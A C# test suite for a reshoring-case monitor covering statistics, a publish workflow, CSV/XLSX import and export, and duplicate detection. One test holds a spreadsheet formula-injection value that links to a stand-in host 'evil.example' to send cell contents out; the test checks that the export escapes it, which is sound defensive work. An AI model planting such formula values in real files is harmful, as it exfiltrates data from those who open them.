using System.Globalization;
using System.Text;
using Reshore.Core.Domain;
using Reshore.Monitor;

namespace Reshore.Monitor.Tests;

public sealed class MonitorTest
{
    private static readonly CultureInfo En = CultureInfo.GetCultureInfo("en");
    private static readonly CultureInfo Nl = CultureInfo.GetCultureInfo("nl-BE");
    private static readonly MonitorWorkflow Workflow = new(TimeProvider.System);
    private static readonly MonitorActor Editor = new("ed", MonitorRole.Editor);
    private static readonly MonitorActor Reviewer = new("rev", MonitorRole.Reviewer);

    private static MonitorCase C(string company, string home, string dest, string[] origins, int? year, string? nace = "C26", int? jobs = null,
        CaseStatus status = CaseStatus.Published, string[]? motives = null, int? employees = null, GovernanceModel? gov = null) => new()
    {
        Id = Guid.NewGuid(), CompanyName = company, HomeCountry = home, Destination = dest, Origins = origins, Status = status,
        AnnouncementDate = year is { } y ? new DateOnly(y, 6, 1) : null, NaceCode = nace, JobsCreated = jobs, Motives = motives ?? [], Employees = employees,
        Governance = gov, Sources = [new CaseSource { Title = "Press release" }],
    };

    // Hand-counted fixture: five published cases, one draft, one withdrawn.
    private static readonly MonitorCase[] Fixture =
    [
        C("A", "BE", "BE", ["CN"], 2016, "C26", 12, motives: ["automation", "poorQuality"], employees: 300, gov: GovernanceModel.InHouseReshoring),
        C("B", "BE", "BE", ["CN", "IN"], 2016, "C14", null, motives: ["madeIn"], employees: 40),
        C("C", "FR", "FR", ["RO"], 2017, "C10", 5, motives: ["automation", "labourCostGap"], employees: 120),
        C("D", "DE", "PL", ["CN"], 2017, "C26", 300, motives: ["deliveryTimes", "poorQuality"]),
        C("E", "IT", "IT", ["IN"], null, null, 1500, motives: []),
        C("F", "BE", "BE", ["CN"], 2018, "C26", 99, status: CaseStatus.Draft),
        C("G", "BE", "BE", ["VN"], 2018, "C26", 77, status: CaseStatus.Withdrawn),
    ];

    [Fact]
    public void Statistics_on_hand_counted_fixture()
    {
        var s = MonitorStatistics.Compute(Fixture, MonitorFilter.Public, En);
        int N(string d, string k) => s.Counts[d].SingleOrDefault(r => r.Key == k)?.Count ?? 0;
        Assert.Equal(5, s.Cases);
        Assert.Equal((2, 2, 1), (N("year", "2016"), N("year", "2017"), N("year", "unknown")));
        Assert.Equal(0, N("year", "2018"));                                     // draft and withdrawn are not public
        Assert.Equal((2, 1, 1, 1), (N("homeCountry", "BE"), N("homeCountry", "FR"), N("homeCountry", "DE"), N("homeCountry", "IT")));
        // origin is multi-valued: B counts for CN and IN → CN 3 (A, B, D), IN 2 (B, E), RO 1; sum 6 > 5 cases
        Assert.Equal((3, 2, 1), (N("origin", "CN"), N("origin", "IN"), N("origin", "RO")));
        Assert.Equal(6, s.Counts["origin"].Sum(r => r.Count));
        Assert.Equal((2, 1, 1, 1), (N("sector", "C26"), N("sector", "C14"), N("sector", "C10"), N("sector", "unknown")));
        Assert.Equal((4, 1), (N("section", "C"), N("section", "unknown")));
        Assert.Equal((1, 1, 1, 2), (N("sizeClass", "Large"), N("sizeClass", "Small"), N("sizeClass", "Medium"), N("sizeClass", "unknown")));
        Assert.Equal((1, 4), (N("governance", "InHouseReshoring"), N("governance", "unknown")));
        Assert.Equal((4, 1), (N("type", "Backshoring"), N("type", "Nearshoring")));
        Assert.Equal((2, 2, 1, 1, 1, 1), (N("motive", "automation"), N("motive", "poorQuality"), N("motive", "madeIn"), N("motive", "labourCostGap"), N("motive", "deliveryTimes"), N("motive", "unknown")));
        // quadrants as the study places them (lines 584–608): A internal-cost (automation) + external-value (poorQuality); B external-value (madeIn);
        // C internal-cost + external-cost (labourCostGap); D hybrid customer value (deliveryTimes) + external-value (poorQuality)
        Assert.Equal((2, 3, 1, 1, 0), (N("quadrant", "InternalCostEfficiency"), N("quadrant", "ExternalCustomerValue"), N("quadrant", "ExternalCostEfficiency"),
            N("quadrant", "HybridCustomerValue"), N("quadrant", "InternalCustomerValue")));
        Assert.Equal(5, N("function", "Production"));
        // jobs: known for A 12, C 5, D 300, E 1500 → 1817 over 4 cases; B unknown
        Assert.Equal((1817, 4, 1), (s.Jobs.TotalJobs, s.Jobs.CasesWithKnownJobs, s.Jobs.CasesWithUnknownJobs));
        int B(string band) => s.Jobs.Bands.Single(b => b.Band == band).Cases;
        Assert.Equal((1, 1, 0, 0, 1, 1), (B("1-10"), B("11-50"), B("51-100"), B("101-250"), B("251-1000"), B(">1000")));

        var filtered = MonitorStatistics.Compute(Fixture, new MonitorFilter { Origins = new HashSet<string> { "IN" } }.AsPublic(), En);
        Assert.Equal(2, filtered.Cases);
        var all = MonitorStatistics.Compute(Fixture, new MonitorFilter(), En);
        Assert.Equal(7, all.Cases);
        var json = MonitorExport.StatisticsJson(s);
        Assert.Contains("\"origin\"", json);
        using var xlsx = new MemoryStream();
        MonitorExport.WriteStatisticsXlsx(xlsx, s);
        Assert.True(xlsx.Length > 0);
    }

    [Fact]
    public void Editor_cannot_publish_reviewer_can_withdrawn_not_public()
    {
        var created = Workflow.Create(Editor, C("Acme NV", "BE", "BE", ["CN"], 2020, status: CaseStatus.Published), En);
        Assert.True(created.Succeeded, created.Refusal);
        Assert.Equal(CaseStatus.Draft, created.Case!.Status);
        Assert.Equal(WorkflowAction.Create, created.Audit!.Action);
        var submitted = Workflow.Apply(Editor, created.Case, WorkflowAction.Submit, En);
        Assert.True(submitted.Succeeded, submitted.Refusal);
        var refused = Workflow.Apply(Editor, submitted.Case!, WorkflowAction.Publish, Nl);
        Assert.False(refused.Succeeded);
        Assert.Contains("redacteur", refused.Refusal);
        Assert.False(Workflow.Apply(Editor, submitted.Case!, WorkflowAction.Publish, En).Succeeded);
        var published = Workflow.Apply(Reviewer, submitted.Case!, WorkflowAction.Publish, En);
        Assert.True(published.Succeeded, published.Refusal);
        Assert.Equal((CaseStatus.InReview, CaseStatus.Published, "rev", 3), (published.Audit!.From, published.Audit.To, published.Audit.UserId, published.Case!.Version));
        Assert.Single(MonitorWorkflow.VisibleTo([published.Case], MonitorActor.Anonymous));
        Assert.Empty(MonitorWorkflow.VisibleTo([submitted.Case!], MonitorActor.Anonymous));
        Assert.False(Workflow.Edit(Editor, published.Case, published.Case with { Notes = "x" }, En).Succeeded);
        var withdrawn = Workflow.Apply(Reviewer, published.Case, WorkflowAction.Withdraw, En);
        Assert.True(withdrawn.Succeeded);
        Assert.Equal(0, MonitorStatistics.Compute([withdrawn.Case!], MonitorFilter.Public, En).Cases);
        Assert.Empty(MonitorWorkflow.VisibleTo([withdrawn.Case!], null));
        Assert.False(Workflow.Create(MonitorActor.Anonymous, created.Case, En).Succeeded);
    }

    [Fact]
    public void Editor_edits_only_own_drafts_and_diff_names_fields()
    {
        var draft = Workflow.Create(Editor, C("Acme NV", "BE", "BE", ["CN"], 2020), En).Case!;
        var other = new MonitorActor("someone-else", MonitorRole.Editor);
        Assert.False(Workflow.Edit(other, draft, draft with { JobsCreated = 10 }, En).Succeeded);
        var edit = Workflow.Edit(Editor, draft, draft with { JobsCreated = 10, Origins = ["CN", "VN"] }, En);
        Assert.True(edit.Succeeded, edit.Refusal);
        Assert.Equal(["origins", "jobs"], edit.Audit!.Changes.Select(c => c.Field));
        Assert.Equal(("CN", "CN;VN"), (edit.Audit.Changes[0].Before, edit.Audit.Changes[0].After));
        var incomplete = Workflow.Create(Editor, C("Acme NV", "BE", "BE", ["CN"], 2020) with { Sources = [] }, En).Case!;
        var refused = Workflow.Apply(Editor, incomplete, WorkflowAction.Submit, En);
        Assert.False(refused.Succeeded);
        Assert.Contains(refused.Errors, e => e.Field == "sourceTitle");
    }

    private const string Header = "company,homeCountry,origins,destination,nace,announcementDate,motives,jobs,sourceTitle,sourceUrl";

    private static ImportResult Import(string csv, IReadOnlyCollection<MonitorCase>? existing = null) =>
        MonitorImport.ParseCsv(new MemoryStream(Encoding.UTF8.GetBytes(csv)), En, existing);

    [Fact]
    public void Import_is_atomic_and_reports_every_bad_row()
    {
        var csv = Header + "\n" +
                  "Acme NV,BE,CN;IN,BE,C26,2019-03-01,automation;madeIn,25,De Tijd,https://example.org/a\n" +
                  "Bad Co,XX,CN,BE,C26,2019,,,Paper,\n" +                      // row 3: home country
                  "Good Co,DE,RO,DE,C99,2019,,,Paper,\n" +                     // row 4: NACE
                  "Other Co,FR,CN,FR,C10,2019,teleportation,-3,,ftp://x\n";    // row 5: motive, jobs, source
        var r = Import(csv);
        Assert.False(r.Succeeded);
        Assert.Empty(r.Cases);
        Assert.Equal(4, r.RowsRead);
        Assert.Equal(3, r.InvalidRows);
        Assert.Contains(r.Errors, e => e is { Row: 3, Column: "homeCountry" });
        Assert.Contains(r.Errors, e => e is { Row: 4, Column: "nace" });
        Assert.Contains(r.Errors, e => e is { Row: 5, Column: "motives" });
        Assert.Contains(r.Errors, e => e is { Row: 5, Column: "jobs" });
        Assert.DoesNotContain(r.Errors, e => e.Row == 2);
        Assert.Contains("Nothing was stored", MonitorImport.Summary(r, false, En));

        var ok = Import(Header + "\nAcme NV,BE,CN;IN,BE,26,2019-03-01,automation;madeIn,25,De Tijd,https://example.org/a\n");
        Assert.True(ok.Succeeded, string.Join("; ", ok.Errors));
        var c = Assert.Single(ok.Cases);
        Assert.Equal(["CN", "IN"], c.Origins);
        Assert.Equal(("C26", ReshoringType.Backshoring, 25), (c.NaceCode, c.Type, c.JobsCreated));

        var missing = Import("company,origins\nAcme,CN\n");
        Assert.Contains(missing.Errors, e => e is { Row: 1, Column: "homeCountry" });
    }

    [Fact]
    public void A_company_name_that_looks_like_a_formula_is_exported_as_text_and_imported_unchanged()
    {
        const string attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        var cases = MonitorSeed.Cases.Take(2).Select((c, i) => i == 0 ? c with { CompanyName = attack } : c with { CompanyName = "-Minus Corp" }).ToList();
        using var csv = new MemoryStream();
        MonitorExport.WriteCasesCsv(csv, cases);
        var text = Encoding.UTF8.GetString(csv.ToArray());
        Assert.DoesNotContain(",=HYPERLINK", text);
        Assert.DoesNotContain(",\"=HYPERLINK", text);
        Assert.Contains("'=HYPERLINK", text);
        csv.Position = 0;
        var r = MonitorImport.ParseCsv(csv, En);
        Assert.True(r.Succeeded, string.Join("; ", r.Errors));
        Assert.Equal([attack, "-Minus Corp"], r.Cases.Select(c => c.CompanyName));
    }

    [Fact]
    public void Export_round_trips_through_import_csv_and_xlsx()
    {
        var seed = MonitorSeed.Cases;
        using var csv = new MemoryStream();
        MonitorExport.WriteCasesCsv(csv, seed);
        csv.Position = 0;
        var r = MonitorImport.ParseCsv(csv, En);
        Assert.True(r.Succeeded, string.Join("; ", r.Errors));
        Assert.Equal(seed.Select(MonitorColumns.ToRow), r.Cases.Select(MonitorColumns.ToRow));

        using var xlsx = new MemoryStream();
        MonitorExport.WriteCasesXlsx(xlsx, seed);
        xlsx.Position = 0;
        var x = MonitorImport.ParseXlsx(xlsx, En);
        Assert.True(x.Succeeded, string.Join("; ", x.Errors));
        Assert.Equal(seed.Select(MonitorColumns.ToRow), x.Cases.Select(MonitorColumns.ToRow));
    }

    [Fact]
    public void Example_file_imports()
    {
        var path = Path.Combine(AppContext.BaseDirectory, "monitor-cases.csv");
        using var f = File.OpenRead(path);
        var r = MonitorImport.ParseCsv(f, En, MonitorSeed.Cases);
        Assert.True(r.Succeeded, string.Join("; ", r.Errors));
        Assert.True(r.Cases.Count >= 3);
    }

    [Fact]
    public void Duplicates()
    {
        Assert.Equal("continental automotive benelux", DuplicateDetector.NormalizeName("Continental Automotive Benelux BVBA"));
        Assert.Equal("eda", DuplicateDetector.NormalizeName("E.D.&A. NV"));
        Assert.Equal("societe generale", DuplicateDetector.NormalizeName("Société Générale SA"));
        var d = new DuplicateDetector();
        var existing = C("Sylvania NV", "BE", "BE", ["CN"], 2010);
        Assert.Single(d.Find(C("SYLVANIA", "BE", "BE", ["CN"], 2010), [existing], En));
        Assert.Empty(d.Find(C("Sylvania", "BE", "BE", ["CN"], 2014), [existing], En));         // 4 years apart
        Assert.Empty(d.Find(C("Sylvania", "BE", "NL", ["VN"], 2010), [existing], En));         // no shared country
        Assert.Empty(d.Find(C("Barco", "BE", "BE", ["CN"], 2010), [existing], En));            // other company
        Assert.Single(d.Find(C("Continental", "BE", "BE", ["HU"], null), MonitorSeed.Cases, En));
        var dupInFile = Import(Header + "\nAcme NV,BE,CN,BE,C26,2019-03-01,,,X,\nAcme BV,BE,CN,BE,C26,2019-09-01,,,Y,\n");
        Assert.Single(dupInFile.Warnings);
    }

    [Theory]
    [InlineData("BE", "BE", ReshoringType.Backshoring)]
    [InlineData("DE", "PL", ReshoringType.Nearshoring)]
    [InlineData("BE", "RS", ReshoringType.Nearshoring)]
    [InlineData("US", "DE", ReshoringType.Other)]
    [InlineData("BE", "US", ReshoringType.Other)]
    public void Type_derivation(string home, string destination, ReshoringType expected)
    {
        Assert.Equal(expected, ReshoringTypeRule.Derive(home, destination, ["CN"]));
        var c = C("X", home, destination, ["CN"], 2020);
        Assert.Equal(expected, c.Type);
        Assert.Equal(ReshoringType.Other, (c with { TypeOverride = ReshoringType.Other }).Type);
    }

    [Fact]
    public void Size_classes() =>
        Assert.Equal([CompanySizeClass.Small, CompanySizeClass.Medium, CompanySizeClass.Medium, CompanySizeClass.Large],
            new[] { 49, 50, 249, 250 }.Select(CompanySize.FromEmployees));

    [Fact]
    public void Seed_cases_are_valid_published_and_cite_the_study()
    {
        var seed = MonitorSeed.Cases;
        Assert.Equal(9, seed.Count);
        var studyPath = Path.Combine(AppContext.BaseDirectory, "..", "..", "..", "..", "..", "..", "shared", "seed", "000_b3d202c9750fe7be.txt");
        var lines = File.Exists(studyPath) ? File.ReadAllLines(studyPath) : null;
        foreach (var c in seed)
        {
            Assert.Empty(MonitorCaseValidator.ValidateComplete(c, En));
            Assert.True(c.IsSeed);
            Assert.Equal(CaseStatus.Published, c.Status);
            var src = c.Sources[0];
            Assert.Equal(MonitorSeed.StudyTitle, src.Title);
            if (lines is null) continue;
            var range = src.Lines!.Split('–').Select(int.Parse).ToArray();
            var passage = string.Join(" ", lines[(range[0] - 1)..range[1]]);
            var firstWord = c.CompanyName.Split(' ')[0].Replace("&", "", StringComparison.Ordinal);
            Assert.Contains(firstWord, passage.Replace("&", "", StringComparison.Ordinal), StringComparison.OrdinalIgnoreCase);
        }
        Assert.Equal(9, seed.Select(c => c.Id).Distinct().Count());
        var s = MonitorStatistics.Compute(seed, MonitorFilter.Public, En);
        Assert.Equal((9, 8, 1), (s.Cases, s.Counts["homeCountry"].Single(r => r.Key == "BE").Count, s.Counts["homeCountry"].Single(r => r.Key == "DE").Count));
    }

    [Fact]
    public void Taxonomy_covers_scorecard_and_eurofound_and_has_dutch_labels()
    {
        foreach (var (id, _, _) in Reshore.Core.Scorecard.ScorecardEvaluator.MotiveCatalog) Assert.NotNull(MotiveTaxonomy.Find(id));
        Assert.Equal(Reshore.Core.Scorecard.ScorecardEvaluator.MotiveCatalog.Count, MotiveTaxonomy.All.Count);   // one list for case files and monitor
        Assert.Equal(7, MotiveTaxonomy.All.Count(m => m.EurofoundCases is not null));                                 // the counts the study gives
        Assert.Equal(3, MotiveTaxonomy.All.Count(m => m.EurofoundTopThree));
        foreach (var m in MotiveTaxonomy.All) Assert.NotEqual(m.Id, m.Label(Nl));
        foreach (var m in MotiveTaxonomy.All) Assert.NotEqual(m.Label(En), m.Label(Nl));
        foreach (var code in NaceSectors.Codes) Assert.NotEqual(NaceSectors.Label(En, code), NaceSectors.Label(Nl, code));
        Assert.Equal("C26", NaceSectors.Normalize("26.1"));
        Assert.Null(NaceSectors.Normalize("C34"));
    }
}
